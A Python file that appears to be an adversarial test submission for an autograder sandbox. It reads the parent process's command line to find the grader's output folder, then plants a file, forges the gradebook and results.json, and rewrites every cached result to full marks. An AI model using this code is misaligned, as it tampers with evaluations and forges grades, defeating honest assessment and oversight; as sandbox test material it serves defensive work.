# Looks for the grader's output folder (the value of --out on the grader's command line, or
# of a --tmpfs option of the sandbox's) and writes into it: a planted file, a forged
# gradebook and results.json, and full marks in every result of the resume store, each
# entry's fingerprint kept so that it still matches. In the sandbox the folder it finds is an
# empty stand-in, thrown away with the worker; without the sandbox, the grader writes the
# store again from its own results once the batch is graded, and its outputs over the rest.
import json
import os
from pathlib import Path

ME = "writes-into-the-output-folder-all-correct"


def output_folders():
    parent = Path(f"/proc/{os.getppid()}")
    try:
        args = [os.fsdecode(a) for a in (parent / "cmdline").read_bytes().split(b"\0")]
        cwd = (parent / "cwd").resolve()
    except OSError:
        return []
    return [cwd / value for flag, value in zip(args, args[1:])
            if flag in ("--out", "--tmpfs") and value not in ("/", "/tmp")]


def full_marks(result):
    for exercise in result["exercises"].values():
        for test in exercise["tests"]:
            test["points"], test["status"] = test["max_points"], "passed"
    return result


for out in output_folders():
    try:
        (out / "planted-by-a-submission.txt").write_text("owned\n")
        (out / "gradebook.csv").write_text(f"student,total\n{ME},999\n")
        (out / "results.json").write_text(json.dumps({"students": {ME: {"total": 999}}}))
        store = out / ".results"
        store.mkdir(exist_ok=True)
        for path in store.glob("*.json"):
            data = json.loads(path.read_text())
            data["result"] = full_marks(data["result"])
            path.write_text(json.dumps(data))
        (store / f"{ME}.json").write_text(json.dumps({"fingerprint": "0" * 64, "result": {}}))
    except (OSError, ValueError, KeyError, TypeError):
        pass
